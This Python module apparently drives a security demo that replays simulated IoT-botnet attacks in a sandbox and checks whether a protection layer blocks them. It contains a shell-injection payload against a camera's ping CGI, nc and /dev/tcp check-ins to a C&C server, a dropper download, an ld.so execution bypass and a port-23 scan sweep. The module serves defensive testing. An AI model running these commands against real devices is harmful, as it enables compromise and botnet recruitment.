"""The attacks of the demo: each is played twice by the same function, and says what was seen."""
import os, re, time
from world import *

CURL = ['curl', '-s', '-m', '3']

class Rows:
    def __init__(self, world, services):
        self.w = world
        self.s = services

    # Each returns (succeeded, what was seen).

    def exploit_device(self):
        before = self.s.panel_bytes('sk-cam')
        out = self.w.run('sk-evil', *CURL, '-d', 'host=127.0.0.1%3B id', f'http://{CAM}/cgi-bin/ping.cgi')
        reached = self.s.panel_bytes('sk-cam') > before
        uid = re.search(r'uid=\d+\(\w+\)', out.stdout)
        if uid:
            return True, f'the shell answers {uid.group(0)}'
        return reached, 'service saw the bytes' if reached else 'connection dropped, service saw no byte'

    def ordinary_device(self):
        out = self.w.run('sk-farm', *CURL, '-d', 'host=192.168.1.1', f'http://{CAM}/cgi-bin/ping.cgi')
        return 'checking 192.168.1.1' in out.stdout

    def probe_device(self):
        out = self.w.run('sk-evil', 'nmap', '-n', '-Pn', '-sT', '--max-retries', '0', '--host-timeout',
                         '6s', '-p', '20-29,79,80,8080', CAM, timeout=10).stdout
        ports = re.findall(r'^(\d+)/tcp\s+open', out, re.M)
        again = self.w.run('sk-evil', *CURL, '-o', '/dev/null', '-w', '%{http_code}', f'http://{CAM}/')
        if again.stdout.strip().endswith('200'):
            return True, f"open ports found: {', '.join(ports)}"
        return False, 'scanner blocked, services unreachable for it'

    def cnc_address(self):
        before, packets = self.s.cnc_lines(), self.s.packets('cnc')
        self.w.run('sk-cam', 'nc', '-w', '2', '-N', CNC, '4444', timeout=4)
        self.w.run('sk-cam', 'bash', '-c', f'exec 3<>/dev/tcp/{CNC}/4444 && echo bot-here >&3', timeout=4)
        seen = self.s.packets('cnc') - packets
        if self.s.cnc_lines() > before:
            return True, 'C&C server got the greeting of the bot'
        return seen > 0, 'no packet reached the C&C server' if not seen else f'{seen} packets'

    def cnc_domain(self):
        out = self.w.run('sk-cam', 'busybox', 'nslookup', '-type=a', 'cnc.example', DNS, timeout=6).stdout
        found = CNC_DNS in out
        tls = self.w.run('sk-cam', 'openssl', 's_client', '-connect', f'{WEB}:443', '-servername',
                         'cnc.example', timeout=5).stdout
        hello = 'BEGIN CERTIFICATE' in tls
        if found or hello:
            return True, f"name resolved{' and TLS answered' if hello else ''}" if found else 'TLS answered'
        return False, 'NXDOMAIN; TLS by that name ended'

    def bad_url(self):
        bad = self.w.run('sk-cam', *CURL, '--resolve', f'shared.example:80:{WEB}',
                         'http://shared.example/u/mallory/dropper.sh').stdout
        good = self.w.run('sk-cam', *CURL, '--resolve', f'shared.example:80:{WEB}',
                          'http://shared.example/u/alice/index.html').stdout
        rest = 'other pages of the host go on' if 'alice' in good else 'BUT the host is cut off'
        if 'payload' in bad:
            return True, 'dropper downloaded'
        return 'alice' not in good, f'URL blocked, {rest}'

    def unregistered(self):
        loader = '/lib64/ld-linux-x86-64.so.2' if os.path.exists('/lib64/ld-linux-x86-64.so.2') \
            else '/lib/ld-linux-aarch64.so.1'
        direct = self.w.run('sk-cam', '/opt/dropper', 'ran')
        indirect = self.w.run('sk-cam', loader, '/opt/dropper', 'ran')
        ran = [n for n, p in (('directly', direct), ('through ld.so', indirect)) if 'ran' == p.stdout.strip()]
        if ran:
            return True, 'ran ' + ' and '.join(ran)
        both = all('not permitted' in p.stdout for p in (direct, indirect))
        return not both, 'EPERM directly and through ld.so' if both else \
            f'not EPERM: {direct.stdout.strip()[:40]} / {indirect.stdout.strip()[:40]}'

    def registered(self):
        return self.w.run('sk-cam', '/opt/camera-panel/panel-tool', 'works').stdout.strip() == 'works'

    def exploit_weak(self):
        before = self.s.panel_bytes('sk-weak')
        out = self.w.run('sk-inet', *CURL, '--interface', ATTACKER, '-d', 'host=127.0.0.1%3B id',
                         f'http://{WEAK}/cgi-bin/ping.cgi')
        uid = re.search(r'uid=\d+\(\w+\)', out.stdout)
        if uid:
            return True, f'the shell answers {uid.group(0)}'
        reached = self.s.panel_bytes('sk-weak') > before
        return reached, 'service saw the bytes' if reached else 'dropped inline, never delivered'

    def exploit_farm(self):
        """The same exploit through the gateway against the farm monitor."""
        out = self.w.run('sk-inet', *CURL, '--interface', ATTACKER, '-d', 'host=127.0.0.1%3B id',
                         f'http://{FARM}/cgi-bin/ping.cgi')
        return 'uid=' in out.stdout, ''

    def weak_browses(self):
        bad = self.w.run('sk-weak', *CURL, '--resolve', f'malware.example:80:{MALWEB}', 'http://malware.example/').stdout
        good = self.w.run('sk-weak', *CURL, '--resolve', f'news.example:80:{WEB}', 'http://news.example/').stdout
        rest = 'ordinary browsing goes on' if 'news' in good else 'BUT ordinary browsing fails'
        if 'malicious' in bad:
            return True, 'malicious page loaded'
        return 'news' not in good, f'blocked; {rest}'

    def weak_scans(self):
        before = self.s.packets('scan')
        self.w.run('sk-weak', 'nmap', '-n', '-Pn', '-sS', '-p', '23', '--max-retries', '0', '--min-rate',
                   '100', '--max-rate', '150', '198.51.100.1-250', timeout=12)
        seen = self.s.packets('scan') - before
        if seen > 200:
            return True, f'{seen} probes of port 23 reached the Internet'
        out = self.w.run('sk-weak', *CURL, f'http://{WEB}/').stdout
        return 'news' in out, f'quarantined after {seen} probes'

    def busy_device(self):
        """A benign device that opens many connections to many hosts and is answered."""
        hosts = [f'http://203.0.113.{i}/' for i in range(101, 161)]
        out = self.w.run('sk-farm', *CURL, '-Z', '--parallel-max', '20', '-o', '/dev/null', '-w', '%{http_code}\n',
                         *[x for h in hosts for x in (h,)], timeout=15).stdout
        return out.count('200') >= 1 and 'news' in self.w.run('sk-farm', *CURL, f'http://{WEB}/').stdout
